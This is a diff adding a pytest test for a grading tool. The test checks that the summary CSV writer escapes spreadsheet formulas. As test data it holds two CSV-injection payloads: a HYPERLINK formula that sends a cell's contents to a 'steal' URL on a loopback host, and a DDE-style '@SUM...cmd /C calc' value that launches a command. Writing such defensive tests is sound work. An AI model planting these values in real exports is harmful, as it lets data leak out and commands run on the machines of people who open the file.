@@ -53,3 +53,18 @@ def test_records_of_another_format_or_without_a_fingerprint_are_never_current(tm
     assert store.load("old") is None and store.load("torn") is None
     unrun = GradeRecord("bob", "bob", a_record().result)  # nothing was run: no submission fingerprint
     assert not unrun.is_current("", "")
+
+
+def test_summary_csv_cells_are_never_formulas(tmp_path):
+    # Review attack rogue_loopback_worker (ROGUE_CSV): a member's record set grader and graded_at to
+    # =HYPERLINK(...) and @SUM(...), written verbatim into every row of summary.csv.
+    import csv
+    import dataclasses
+
+    record = dataclasses.replace(a_record(), grader='=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"x")',
+                                 graded_at="@SUM(1+1)*cmd|' /C calc'!A0")
+    store = ResultStore(tmp_path)
+    rows = list(csv.DictReader(store.write_summary(COURSE, [record]).open(encoding="utf-8")))
+    assert rows[0]["graded_by"] == "'" + record.grader and rows[0]["graded_at"] == "'" + record.graded_at
+    assert rows[0]["student"] == "alice" and rows[0]["total"] == f"{record.total:g}"  # numbers stay numbers
+    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
